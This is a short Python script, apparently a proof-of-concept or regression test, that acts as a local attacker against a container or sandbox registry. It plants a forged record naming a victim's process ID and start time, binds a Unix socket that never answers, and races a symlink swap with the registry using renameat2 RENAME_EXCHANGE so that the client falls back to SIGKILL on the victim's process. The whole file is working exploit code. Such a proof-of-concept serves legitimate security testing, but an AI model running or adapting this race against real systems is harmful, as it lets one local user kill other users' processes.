# A local user who owns the registry's parent: plants a record (the keeper
# "pid" a process of the victim's, its real start time) and a socket that
# never answers in a directory of its own, and keeps swapping a link to it
# with the registry (renameat2 RENAME_EXCHANGE) until told to stop.
import ctypes, json, os, socket, sys, threading
parent, victim, stop = sys.argv[1], int(sys.argv[2]), sys.argv[3]
attk = os.path.join(parent, "attk")
ent = os.path.join(attk, "0123456789ab")
os.mkdir(attk, 0o755)
os.symlink(attk, os.path.join(parent, "evil"))
stat = open("/proc/%d/stat" % victim).read()
start = int(stat.rsplit(")", 1)[1].split()[19])
def serve(s):
    while True:
        try:
            c, _ = s.accept()
        except OSError:
            return
        c.close()  # no reply: the client falls back to SIGKILL
def plant():
    os.makedirs(ent, 0o755, exist_ok=True)
    with open(os.path.join(ent, "box.json"), "w") as f:
        json.dump({"id": "0123456789ab", "keeper_pid": victim,
                   "keeper_start": start, "created": 0, "expires": 0,
                   "backend": "unknown", "image": "x", "state": "running"}, f)
    try:
        os.unlink(os.path.join(ent, "sock"))
    except OSError:
        pass
    s = socket.socket(socket.AF_UNIX)
    s.bind(os.path.join(ent, "sock"))
    s.listen(64)
    threading.Thread(target=serve, args=(s,), daemon=True).start()
plant()
libc = ctypes.CDLL(None, use_errno=True)
SYS_renameat2, AT_FDCWD, RENAME_EXCHANGE = 316, -100, 2
a = os.path.join(parent, "reg").encode()
b = os.path.join(parent, "evil").encode()
n = 0
while not os.path.exists(stop):
    n += 1
    if n % 100 == 0 and not os.path.exists(os.path.join(ent, "sock")):
        plant()
    libc.syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE)
